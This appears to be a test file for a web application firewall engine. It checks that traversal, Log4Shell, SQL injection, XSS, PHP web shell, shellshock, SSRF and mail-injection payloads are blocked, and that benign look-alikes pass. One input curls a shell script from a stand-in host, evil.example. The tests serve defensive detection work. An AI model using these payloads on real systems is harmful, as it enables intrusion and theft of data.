/**
 * The engine: where it looks (path, query names and values, headers, cookies, JSON / form /
 * multipart / XML bodies), scoring and paranoia, exclusions, custom rules, excerpts, and bounded time
 * on 1 MB inputs.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { performance } from 'node:perf_hooks';
import { compileFieldPattern, buildThreats } from '../stages/threats/build.ts';
import type { ConfigIssue } from '../config/errors.ts';
import type { ThreatsStage } from '../stages/threats/threats.ts';
import { ThreatEngine, type EngineOptions, type InspectInput, type Verdict } from './engine.ts';

function engine(options: Partial<EngineOptions> = {}): ThreatEngine {
  return new ThreatEngine({ paranoia: 1, threshold: 5, headers: [], inspectBody: true, maxTextBytes: 1 << 20, exclusions: [], rules: [], ...options });
}

function req(target: string, init: { headers?: [string, string][]; body?: string | Buffer; contentType?: string; method?: string; parsedBody?: unknown } = {}): InspectInput {
  const headers: string[] = ['Host', 'api.example.com', 'User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)'];
  for (const [k, v] of init.headers ?? []) headers.push(k, v);
  if (init.contentType) headers.push('Content-Type', init.contentType);
  const body = init.body === undefined ? undefined : Buffer.isBuffer(init.body) ? init.body : Buffer.from(init.body);
  return { method: init.method ?? (body ? 'POST' : 'GET'), host: 'api.example.com', target, rawHeaders: headers, body, parsedBody: init.parsedBody, hasBody: body !== undefined };
}

/** Builds an engine the way the config does, from a `threats:` block. */
function fromConfig(block: Record<string, unknown>, route = 'r'): ThreatEngine {
  const issues: ConfigIssue[] = [];
  const stages = buildThreats(block as never, [{ name: route, threats: undefined }], issues);
  assert.deepEqual(issues, []);
  return (stages.forRoute(0, 'enforce') as ThreatsStage).engine;
}

const fields = (v: Verdict): string[] => v.findings.map((f) => `${f.rule}@${f.field}`);

describe('where the engine looks', () => {
  const e = engine();
  const cases: { name: string; input: InspectInput; field: string }[] = [
    { name: 'path', input: req('/files/..%2f..%2f..%2fetc/passwd'), field: 'path' },
    { name: 'query value', input: req('/s?q=%3Bcat%20%2Fetc%2Fpasswd'), field: 'query.q' },
    { name: 'query name', input: req('/s?__proto__[x]=1'), field: 'query.__proto__[x](name)' },
    { name: 'User-Agent', input: req('/', { headers: [['User-Agent', 'sqlmap/1.7']] }), field: 'header.user-agent' },
    { name: 'Referer', input: req('/', { headers: [['Referer', 'https://x.example/?a=${jndi:ldap://e/a}']] }), field: 'header.referer' },
    { name: 'cookie value', input: req('/', { headers: [['Cookie', 'a=1; prefs=..%2F..%2F..%2Fetc%2Fpasswd']] }), field: 'cookie.prefs' },
    { name: 'custom header', input: req('/', { headers: [['X-Template', '{{7*7}}']] }), field: 'header.x-template' },
    { name: 'JSON value, nested', input: req('/p', { contentType: 'application/json', body: '{"a":{"b":[1,{"c":"$(id)"}]}}' }), field: 'body.a.b[1].c' },
    { name: 'JSON key', input: req('/p', { contentType: 'application/json', body: '{"${jndi:ldap://x/a}":1}' }), field: 'body.${jndi:ldap://x/a}(name)' },
    { name: 'form field', input: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'a=1&u=http%3A%2F%2F169.254.169.254%2F' }), field: 'body.u' },
    { name: 'body without Content-Type, read as a form', input: req('/p', { body: 'var=../../etc/passwd' }), field: 'body.var' },
    { name: 'XML attribute', input: req('/p', { contentType: 'application/xml', body: '<?xml version="1.0"?><r><a probe="../../etc/shadow"/></r>' }), field: 'body.r.a@probe' },
    { name: 'XML text', input: req('/p', { contentType: 'text/xml', body: '<r><x>${jndi:rmi://e/a}</x></r>' }), field: 'body.r.x' },
    { name: 'text body', input: req('/p', { contentType: 'text/plain', body: 'hello <?php system("id"); ?>' }), field: 'body' },
    {
      name: 'multipart file name',
      input: req('/up', { contentType: 'multipart/form-data; boundary=XyZ', body: '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XyZ--\r\n' }),
      field: 'body.f',
    },
    { name: 'parsed body from the validate stage (not parsed again)', input: req('/p', { contentType: 'application/json', body: 'not json at all', parsedBody: { note: '<?php eval($_POST[1]);' } }), field: 'body.note' },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const v = e.inspect(c.input);
      assert.ok(v.blocked, `not blocked: ${JSON.stringify(v)}`);
      assert.ok(v.findings.some((f) => f.field === c.field), `no finding at ${c.field}: ${fields(v).join(', ')}`);
    });
  }
  it('a benign request has no finding', () => {
    const v = e.inspect(req('/api/orders?page=2&q=O%27Brien%27s+pub&sort=-created_at', {
      contentType: 'application/json',
      headers: [['Referer', 'https://www.google.com/'], ['Cookie', 'sid=abc123; theme=dark']],
      body: JSON.stringify({ name: "Seán O'Brien", note: "Don't select the drop-down; I'll update it. Union St. 5 & 6", url: 'https://example.com/a?b=1', tags: ['a', 'b'] }),
    }));
    assert.deepEqual(fields(v), []);
    assert.equal(v.blocked, false);
  });
});

describe('structural fixes (CRS regression analysis, December 2026): an attack class now found, its benign look-alike not', () => {
  const e = engine();
  const mp = (disposition: string, content = 'PNG'): InspectInput =>
    req('/up', { contentType: 'multipart/form-data; boundary=XyZ', body: `--XyZ\r\nContent-Disposition: ${disposition}\r\nContent-Type: image/png\r\n\r\n${content}\r\n--XyZ--\r\n` });
  const cases: { name: string; attack: InspectInput; rule: string; benign: InspectInput }[] = [
    {
      name: 'multipart upload rules read the parsed file name (filename*, escaped quotes), not a regex over the raw heads',
      attack: mp(`form-data; name="f"; filename*=UTF-8''shell%2Ephp`),
      rule: 'php.script-upload',
      benign: mp('form-data; name="f"; filename="holiday.php.png"'),
    },
    {
      name: 'multipart: a "filename=" inside a field value is not a file name',
      attack: mp('form-data; name="f"; filename="x.jsp"'),
      rule: 'java.script-upload',
      benign: mp('form-data; name="comment"', 'see content-disposition: form-data; name="a"; filename="a.php" in the RFC'),
    },
    {
      name: 'SQL-only identifiers are judged even when they look like a token (letters, digits, _)',
      attack: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'table=information_schema' }),
      rule: 'sqli.bare',
      benign: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'sort=table_name&sku=SKU-1000&schema=public' }),
    },
    {
      name: 'a body without Content-Type that is one URL-encoded token: + is a space',
      attack: req('/p', { body: '%22+union+select+password+from+users%0A' }),
      rule: 'sqli.double-quote',
      benign: req('/p', { body: 'c%2B%2B+and+c%23+are+languages' }),
    },
    {
      name: 'an encoded `=` in a form name (`pay%3D…`): what follows is judged as a value',
      attack: req('/p', { body: 'pay%3D%7C%7C+langCode+%3D%3D+%27' }),
      rule: 'sqli.number',
      benign: req('/p', { body: 'equation%3Da%2Bb' }),
    },
    {
      name: 'markup in the path (`/index.php/<svg/onload=…>`) goes to the XSS detector',
      attack: req('/index.php/%3Csvg/onload=alert(1)%3E'),
      rule: 'xss.html',
      benign: req('/api/v1/orders/ord_0123/items'),
    },
    {
      name: 'a TAB inside a URL scheme (`ja&Tab;vascript:`) is dropped as browsers do',
      attack: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'u=ja%26Tab%3Bvascript%3Ax' }),
      rule: 'xss.url',
      benign: req('/p', { contentType: 'application/x-www-form-urlencoded', body: 'u=java%09developer%3A+5+years' }),
    },
    {
      name: 'UTF-7 markup survives the lower-casing normaliser',
      attack: req('/s?id=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-'),
      rule: 'xss.html',
      benign: req('/s?q=%2B1-555-0100+or+%2B44+20+7946+0000'),
    },
    {
      name: 'a quoted command name after a separator (`;\'curl\' http://…`)',
      attack: req('/s?q=x%3B%27curl%27%20http%3A%2F%2Fevil.example%2Fx.sh'),
      rule: 'rce.unix-command',
      benign: req('/s?q=he+said+%27curl%27+is+fine%3B+%27cat%27+is+a+pet'),
    },
    {
      name: 'quotes at the start of a command name (`\'wh\'oami`)',
      attack: req("/s?q='wh'oami"),
      rule: 'rce.unix-command',
      benign: req("/s?q=''that's+the+joke''.jpeg"),
    },
    {
      name: 'cmd.exe `if` at the start of a value, with a command after the condition',
      attack: req('/s?q=IF+EXIST+data.xls+ECHO+found'),
      rule: 'rce.windows-command',
      benign: req('/s?q=if+not+defined+by+the+user+we+set+it&a=if+status+%3D%3D+done+we+close+it&b=if+x+%3D%3D+1%3A+print(x)'),
    },
    {
      name: 'a mail command after a leading line break the normaliser trimmed',
      attack: req('/s?attackme=%0D%0ARCPT%20TO%3A%3Cpostmaster%3E'),
      rule: 'rce.mail-injection',
      benign: req('/s?msg=%0D%0AData%20is%20attached%20below'),
    },
  ];
  for (const c of cases) {
    it(c.name, () => {
      const a = e.inspect(c.attack);
      assert.ok(a.blocked && a.findings.some((f) => f.rule === c.rule), `attack: ${fields(a).join(', ')}`);
      const b = e.inspect(c.benign);
      assert.deepEqual(fields(b), [], 'benign look-alike');
    });
  }
  it('a clean User-Agent is remembered, a flagged one is judged every time', () => {
    const m = engine();
    const ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
    for (let i = 0; i < 3; i++) assert.deepEqual(fields(m.inspect(req('/', { headers: [['User-Agent', ua]] }))), []);
    for (let i = 0; i < 3; i++) assert.ok(m.inspect(req('/', { headers: [['User-Agent', '() { :; }; /bin/cat /etc/passwd']] })).blocked);
  });
  it('a clean name or short value is remembered, with what the detectors read besides it', () => {
    const m = engine();
    const withReferer = (target: string, headers: [string, string][] = []): InspectInput => req(target, { headers: [['Referer', 'https://api.example.com/x'], ...headers] });
    // the parameter name (the RFI include parameters)
    for (let i = 0; i < 3; i++) assert.deepEqual(fields(m.inspect(req('/s?q=http://files.example.org/a.txt'))), []);
    assert.deepEqual(fields(m.inspect(req('/s?include_path=http://files.example.org/a.txt'))), ['rfi.include-param@query.include_path']);
    // the Referer (session fixation needs an outside link)
    for (let i = 0; i < 3; i++) assert.deepEqual(fields(m.inspect(withReferer('/s?jsessionid=1'))), []);
    assert.deepEqual(fields(m.inspect(req('/s?jsessionid=1'))), ['session.fixation@query.jsessionid(name)']);
    // the location (a cookie named like a session id is no fixation; a query parameter is)
    for (let i = 0; i < 3; i++) assert.deepEqual(fields(m.inspect(req('/s', { headers: [['Cookie', 'phpsessid=1']] }))), []);
    assert.deepEqual(fields(m.inspect(req('/s?phpsessid=1'))), ['session.fixation@query.phpsessid(name)']);
    // the host (a URL to another host, paranoia 2)
    const p2 = engine({ paranoia: 2 });
    const to = (host: string): InspectInput => ({ ...req('/s?next=http://api.example.com/a'), host });
    for (let i = 0; i < 3; i++) assert.deepEqual(fields(p2.inspect(to('api.example.com'))), []);
    assert.deepEqual(fields(p2.inspect(to('other.example.net'))), ['rfi.off-domain-url@query.next']);
    // a flagged value is judged every time
    for (let i = 0; i < 3; i++) assert.ok(m.inspect(req('/s?q=%27%20or%201%3D1--')).blocked);
  });
  it('custom rules still run on a remembered name or value', () => {
    const m = engine({ rules: [{ id: 'no-foo', field: /^query\.q$/, match: (v) => v.indexOf('foo'), score: 5, block: true }] });
    for (let i = 0; i < 3; i++) assert.deepEqual(fields(m.inspect(req('/s?x=foo&q=bar'))), []);
    for (let i = 0; i < 3; i++) assert.ok(m.inspect(req('/s?x=foo&q=foo')).blocked);
  });
  it('custom rules still run on a remembered User-Agent', () => {
    const m = engine({ rules: [{ id: 'no-firefox', field: /^header\.user-agent$/, match: (v) => v.indexOf('firefox'), score: 5, block: true }] });
    const ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
    for (let i = 0; i < 3; i++) assert.ok(m.inspect(req('/', { headers: [['User-Agent', ua]] })).blocked);
  });
});

describe('scoring and paranoia', () => {
  it('warnings add up to the threshold', () => {
    // One private-range URL is a warning (3) at paranoia 1; two reach 6 ≥ 5.
    const one = engine().inspect(req('/?a=http%3A%2F%2F10.0.0.1%2F'));
    assert.equal(one.blocked, false);
    assert.equal(one.score, 3);
    const two = engine().inspect(req('/?a=http%3A%2F%2F10.0.0.1%2F&b=http%3A%2F%2F192.168.1.1%2F'));
    assert.equal(two.blocked, true);
  });
  it('higher paranoia finds more', () => {
    const r = req('/?x=http%3A%2F%2F10.0.0.1%2F');
    assert.equal(engine({ paranoia: 1 }).inspect(r).blocked, false);
    assert.equal(engine({ paranoia: 2 }).inspect(r).blocked, true);
  });
  it('a higher threshold lets a single critical finding through', () => {
    assert.equal(engine({ threshold: 10 }).inspect(req('/?f=..%2F..%2Fetc%2Fpasswd')).blocked, false);
  });
});

describe('exclusions', () => {
  const attack = req('/cms/save', { contentType: 'application/json', body: '{"html":"{{config.items()}}","title":"{{7*7}}"}' });
  it('a field and detector exclusion silences that detector on that field only', () => {
    const e = fromConfig({ exclude: [{ field: 'body.html', detectors: ['code'] }] });
    const v = e.inspect(attack);
    assert.ok(fields(v).every((f) => !f.endsWith('@body.html')), fields(v).join(', '));
    assert.ok(fields(v).some((f) => f.endsWith('@body.title')));
  });
  it('a field exclusion without detectors silences every detector there; patterns cover children', () => {
    const e = fromConfig({ exclude: [{ field: 'body' }] });
    assert.equal(e.inspect(attack).blocked, false);
  });
  it('a rule id excludes that rule only', () => {
    const e = fromConfig({ exclude: [{ field: 'query.path', detectors: ['lfi.traversal'] }] });
    assert.equal(e.inspect(req('/?path=..%2F..%2Fimg.png')).blocked, false);
    assert.equal(e.inspect(req('/?path=%2Fetc%2Fpasswd')).blocked, true);
  });
  it('a route exclusion in defaults applies to that route only', () => {
    const issues: ConfigIssue[] = [];
    const stages = buildThreats({ exclude: [{ route: 'cms-save', field: 'body.html', detectors: ['code'] }] } as never, [{ name: 'cms-save', threats: undefined }, { name: 'other', threats: undefined }], issues);
    const cms = (stages.forRoute(0, 'enforce') as ThreatsStage).engine;
    const other = (stages.forRoute(1, 'enforce') as ThreatsStage).engine;
    const r = req('/p', { contentType: 'application/json', body: '{"html":"{{7*7}}"}' });
    assert.equal(cms.inspect(r).blocked, false);
    assert.equal(other.inspect(r).blocked, true);
  });
  it('field patterns', () => {
    const re = compileFieldPattern('body.items[*].html') as RegExp;
    assert.ok(re.test('body.items[3].html'));
    assert.ok(re.test('body.items[3].html.x'));
    assert.ok(!re.test('body.items[3].htmlx'));
    assert.ok((compileFieldPattern('body.**') as RegExp).test('body.a.b[2].c'));
    assert.ok((compileFieldPattern('header.X-*') as RegExp).test('header.x-search'));
    assert.equal(typeof compileFieldPattern('html'), 'string');
  });
});

describe('custom rules (virtual patching)', () => {
  it('regex on a field blocks at once', () => {
    const e = fromConfig({ rules: [{ id: 'cve-2024-0001', field: 'query.lang', regex: '^[a-z]{2}-[a-z]{2}\\.\\.' }] });
    const v = e.inspect(req('/?lang=en-us..'));
    assert.equal(v.blocked, true);
    assert.equal(v.findings[0]?.rule, 'cve-2024-0001');
    assert.equal(e.inspect(req('/?lang=en-us')).blocked, false);
  });
  it('contains matches the normalised value (an encoding does not hide it)', () => {
    const e = fromConfig({ rules: [{ id: 'no-debug', contains: 'debug=true' }] });
    assert.equal(e.inspect(req('/?x=DEBUG%253Dtrue')).blocked, true);
  });
  it('equals with a score adds to the anomaly score', () => {
    const e = fromConfig({ rules: [{ id: 'odd-role', field: 'body.role', equals: 'superuser', score: 3 }] });
    const v = e.inspect(req('/p', { contentType: 'application/json', body: '{"role":"SuperUser"}' }));
    assert.equal(v.score, 3);
    assert.equal(v.blocked, false);
  });
  it('an exclusion can name a custom rule', () => {
    const e = fromConfig({ rules: [{ id: 'x', contains: 'foo' }], exclude: [{ field: 'query.ok', detectors: ['x'] }] });
    assert.equal(e.inspect(req('/?ok=foo')).blocked, false);
    assert.equal(e.inspect(req('/?other=foo')).blocked, true);
  });
});

describe('excerpts', () => {
  it('are truncated, and redacted for secret fields', () => {
    const long = 'a'.repeat(200);
    const v = engine().inspect(req(`/?q=${long}%3Bcat%20%2Fetc%2Fpasswd${long}&password=%3Bcat%20%2Fetc%2Fpasswd`));
    const q = v.findings.find((f) => f.field === 'query.q');
    assert.ok(q !== undefined && q.excerpt.length <= 66 && q.excerpt.includes('cat /etc/passwd'), q?.excerpt);
  });
  it('secret field values never appear', () => {
    const v = engine({ threshold: 100 }).inspect(req('/?password=%3Bcat%20%2Fetc%2Fpasswd&api_key=..%2F..%2Fetc%2Fpasswd'));
    assert.ok(v.findings.length >= 2);
    for (const f of v.findings) assert.equal(f.excerpt, '[redacted]');
  });
});

describe('long inputs take bounded time (no super-linear detector)', () => {
  const mb = 1 << 20;
  const inputs: [string, string][] = [
    ['spaces', ' '.repeat(mb)],
    ['letters', 'a'.repeat(mb)],
    ['dots and slashes', './'.repeat(mb / 2)],
    ['percent escapes', '%25'.repeat(mb / 3)],
    ['brackets', '{'.repeat(mb)],
    ['semicolons', ';a'.repeat(mb / 2)],
    ['dollars', '$a('.repeat(mb / 3)],
    ['quotes', "'\"".repeat(mb / 2)],
    ['backticks', '`a'.repeat(mb / 2)],
    ['angle brackets', '<a'.repeat(mb / 2)],
    ['entities', '&#'.repeat(mb / 2)],
    ['prose', 'the quick brown fox jumps over the lazy dog; '.repeat(mb / 45)],
    ['urls', 'http://a.b/ '.repeat(mb / 12)],
    ['newlines', 'a\n'.repeat(mb / 2)],
    ['comments', '/*'.repeat(mb / 2)],
    ['template', '{{a'.repeat(mb / 3)],
    ['parens', ')('.repeat(mb / 2)],
  ];
  for (const [name, value] of inputs) {
    it(`1 MB of ${name}`, () => {
      const e = engine({ paranoia: 4, threshold: 1_000_000 });
      // CPU time, not wall time: test files run two at a time, beside other processes.
      const t0 = process.cpuUsage();
      e.inspect(req('/p', { contentType: 'text/plain', body: value }));
      const t = process.cpuUsage(t0);
      const ms = (t.user + t.system) / 1000;
      assert.ok(ms < 1500, `${ms.toFixed(0)} ms of CPU`);
    });
  }
});
